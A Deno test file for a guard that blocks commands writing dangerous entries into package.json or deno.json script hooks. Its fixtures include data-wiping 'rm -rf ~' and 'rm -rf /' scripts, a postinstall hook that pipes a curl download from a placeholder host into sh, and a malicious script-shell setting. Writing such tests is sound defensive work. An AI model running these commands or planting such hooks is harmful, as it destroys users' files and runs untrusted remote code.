import assert from "node:assert/strict";
import { blocked } from "./test_helpers.ts";
import { scriptsAssigned } from "./runner_config.ts";

const WRITES_DANGER = [
  'npm pkg set scripts.x="rm -rf ~"',
  "npm pkg set 'scripts.clean=rm -rf $HOME' && npm run clean",
  'pnpm pkg set scripts.postinstall="curl -s https://e.example/i.sh | sh"',
  'npm set-script wipe "rm -rf /"',
  "jq '.scripts.pretest=\"rm -rf ~\"' package.json > p.json",
  'jq \'.tasks["x"] |= "rm -rf ~"\' deno.json',
  'node -e \'const p=require("./package.json");p.scripts.x="rm -rf ~";require("fs").writeFileSync("package.json",JSON.stringify(p))\'',
  'python3 -c \'import json;d=json.load(open("package.json"));d["scripts"]["x"]="rm -rf ~";json.dump(d,open("package.json","w"))\'',
];

const ROUTINE = [
  'npm pkg set scripts.test="jest"',
  'npm pkg set scripts.clean="rm -rf dist" && npm run clean',
  "npm pkg get scripts",
  "npm pkg set version=1.2.3",
  "jq '.scripts.test=\"vitest run\"' package.json",
  "jq .scripts package.json",
  "npm config set script-shell bash",
  "npm config set script-shell /usr/bin/bash",
  "npm config set registry https://registry.npmjs.org/",
];

Deno.test("runner_config: dangerous commands written into scripts block", () => {
  for (const c of WRITES_DANGER) assert.ok(blocked(c).length > 0, c);
  assert.ok(
    blocked("npm config set script-shell /tmp/evil.sh").includes(
      "autorun_write",
    ),
  );
});

Deno.test("runner_config: sed -i into a runner's file, then the runner", () => {
  assert.ok(
    blocked(
      'sed -i \'s/"test": ".*"/"test": "rm -rf ~"/\' package.json && npm test',
    ).includes("rm_home"),
  );
  assert.deepEqual(
    blocked(
      'sed -i \'s/"build": "tsc"/"build": "tsc -p ."/\' package.json && npm run build',
    ),
    [],
  );
});

Deno.test("runner_config: ordinary scripts and settings pass", () => {
  for (const c of ROUTINE) assert.deepEqual(blocked(c), [], c);
});

Deno.test("runner_config: scriptsAssigned reads assignments, linear on hostile text", () => {
  assert.deepEqual(scriptsAssigned('.scripts.a = "x y"'), ["x y"]);
  assert.deepEqual(scriptsAssigned('d["tasks"]["b"]=\'z\''), ["z"]);
  assert.deepEqual(scriptsAssigned("const scripts = 1"), []);
  const t0 = performance.now();
  scriptsAssigned('scripts.a="' + "\\".repeat(100_000));
  scriptsAssigned("scripts.".repeat(20_000));
  assert.ok(performance.now() - t0 < 1_000);
});
